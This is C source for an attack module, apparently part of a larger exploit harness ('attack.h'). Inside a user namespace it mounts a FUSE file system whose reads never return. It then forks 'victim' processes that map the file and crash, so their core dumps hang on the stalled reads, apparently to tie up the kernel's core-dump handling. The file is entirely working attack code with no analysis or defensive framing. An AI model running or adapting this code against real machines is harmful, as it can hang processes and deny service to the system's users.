// A FUSE file system of a user in a user namespace of its own, whose file can be opened and mapped, and whose reads never end.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define ROOT 1
#define FILE_ID 2

static void answer(int device, const struct fuse_in_header *to, int error, const void *body, size_t size) {
    char message[sizeof(struct fuse_out_header) + 256];
    struct fuse_out_header head = {sizeof head + size, -error, to->unique};
    memcpy(message, &head, sizeof head);
    memcpy(message + sizeof head, body, size);
    // A request that was interrupted needs no answer.
    if (write(device, message, head.len) < 0 && errno != ENOENT) must(0, "answer of the file system");
}

static struct fuse_attr attributes(uint64_t id) {
    struct fuse_attr of = {.ino = id, .nlink = 1, .uid = getuid(), .gid = getgid(), .blksize = 4096};
    of.mode = id == ROOT ? S_IFDIR | 0755 : S_IFREG | 0644;
    of.size = id == ROOT ? 0 : 1 << 20;
    return of;
}

static void serve(int device) {
    char buffer[FUSE_MIN_READ_BUFFER * 2];
    const struct fuse_in_header *request = (void *)buffer;
    for (;;) {
        if (read(device, buffer, sizeof buffer) < 0) {
            if (errno == ENODEV) _exit(0);
            continue;
        }
        switch (request->opcode) {
        case FUSE_INIT: {
            struct fuse_init_out out = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 4096, .max_readahead = 4096};
            answer(device, request, 0, &out, sizeof out);
            break;
        }
        case FUSE_GETATTR: {
            struct fuse_attr_out out = {.attr_valid = 100, .attr = attributes(request->nodeid)};
            answer(device, request, 0, &out, sizeof out);
            break;
        }
        case FUSE_LOOKUP: {
            struct fuse_entry_out out = {.nodeid = FILE_ID, .entry_valid = 100, .attr_valid = 100, .attr = attributes(FILE_ID)};
            answer(device, request, 0, &out, sizeof out);
            break;
        }
        case FUSE_OPEN: {
            struct fuse_open_out out = {.fh = 1};
            answer(device, request, 0, &out, sizeof out);
            break;
        }
        case FUSE_READ:
            // Whoever reads waits for ever.
        case FUSE_FORGET:
        case FUSE_BATCH_FORGET:
        case FUSE_INTERRUPT:
            break;
        default:
            answer(device, request, ENOSYS, "", 0);
        }
    }
}

// Maps the file and dies. The kernel itself does not read the mapping: it begins behind the file's first page and was not written.
static void victim(const char *file) {
    int opened = open(file, O_RDWR);
    must(opened >= 0, file);
    char *mapped = mmap(0, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE, opened, 4096);
    must(mapped != MAP_FAILED, "mapping");
    prctl(PR_SET_DUMPABLE, 1);
    raise(SIGSEGV);
}

int slow(char **words) {
    char map[64], options[200], mounted[200], file[220];
    unsigned user = getuid(), group = getgid();
    int count = atoi(words[1]), dumped = 0, status;
    must(unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0, "user namespace");
    snprintf(map, sizeof map, "%u %u 1", user, user);
    put("/proc/self/uid_map", map);
    put("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "%u %u 1", group, group);
    put("/proc/self/gid_map", map);
    snprintf(mounted, sizeof mounted, "%s/mounted", words[0]);
    snprintf(file, sizeof file, "%s/file", mounted);
    must(mkdir(mounted, 0755) == 0 || errno == EEXIST, mounted);
    int device = open("/dev/fuse", O_RDWR | O_CLOEXEC);
    must(device >= 0, "/dev/fuse");
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=%u,group_id=%u", device, user, group);
    must(mount("slow", mounted, "fuse", MS_NOSUID | MS_NODEV, options) == 0, "file system");
    pid_t server = fork();
    if (server == 0) serve(device);
    close(device);
    for (int at = 0; at < count; at++) {
        char folder[220];
        snprintf(folder, sizeof folder, "%s/%d", words[0], at);
        if (fork() == 0) {
            must((mkdir(folder, 0755) == 0 || errno == EEXIST) && chdir(folder) == 0, folder);
            victim(file);
            _exit(3);
        }
    }
    for (int at = 0; at < count; at++) {
        if (wait(&status) > 0) dumped += WIFSIGNALED(status) && WCOREDUMP(status);
    }
    printf("%d of %d dumped\n", dumped, count);
    fflush(stdout);
    // Ends with whoever started it, so that the reads wait until then.
    pause();
    return 0;
}
